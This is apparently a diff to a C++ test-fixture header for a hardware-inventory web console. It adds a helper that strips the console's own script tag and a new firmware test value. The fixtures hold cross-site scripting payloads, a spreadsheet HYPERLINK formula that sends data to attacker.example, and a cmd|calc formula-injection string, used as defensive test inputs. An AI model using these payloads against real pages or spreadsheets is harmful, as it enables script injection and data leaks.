@@ -22,6 +22,15 @@
 
 namespace gravelin::testing {
 
+// A console page's body without the one script element every page carries (the console's
+// own file, which shows times in the reader's zone): whatever <script is left was written
+// by something else.
+inline std::string withoutConsoleScript(std::string body) {
+    static const std::string tag = "<script src=\"/console.js\" defer></script>";
+    if (const auto at = body.find(tag); at != std::string::npos) body.erase(at, tag.size());
+    return body;
+}
+
 // Strings a hostile firmware (or a hostile person editing a report) could carry; any page
 // that lets one through runs script, breaks out of an attribute or plants a formula.
 inline const std::string kHostileMaker = "=HYPERLINK(\"http://attacker.example/?leak\",\"Open\")";
@@ -32,6 +41,7 @@ inline const std::string kHostileOs = "<img src=x onerror=\"window.__gravelinPwn
 inline const std::string kHostileDisk = "'><svg onload=window.__gravelinPwned=5>";
 inline const std::string kHostileController = "</td></tr></table><script>window.__gravelinPwned=6</script>";
 inline const std::string kHostilePart = "<style>body{display:none}</style>";
+inline const std::string kHostileFirmware = "</li><img src=x onerror=window.__gravelinPwned=13>";
 inline const std::string kHostileErrors = "<script>window.__gravelinPwned=7</script>";
 // In the system's Version, where Lenovo names the product: shown next to the model.
 inline const std::string kHostileProduct = "\"><img src=x onerror=window.__gravelinPwned=8>";
@@ -351,6 +361,8 @@ inline std::vector<SeedScan> seedScans() {
     seeds.push_back({"hostile", sealedScan("jcreekmore-Dell-Precision-3620", hostile, plantHostileStrings)});
     MachineWmi hostileLater = hostile;
     hostileLater.disks[0].serial = "+SUM(1+1)*cmd|' /C calc'!A0";
+    // Markup in a changed value: the change feed and the machine's timeline show it.
+    hostileLater.disks[0].firmware = kHostileFirmware;
     seeds.push_back({"hostile, second scan",
                      sealedScan("jcreekmore-Dell-Precision-3620", hostileLater, plantHostileStrings)});
     return seeds;
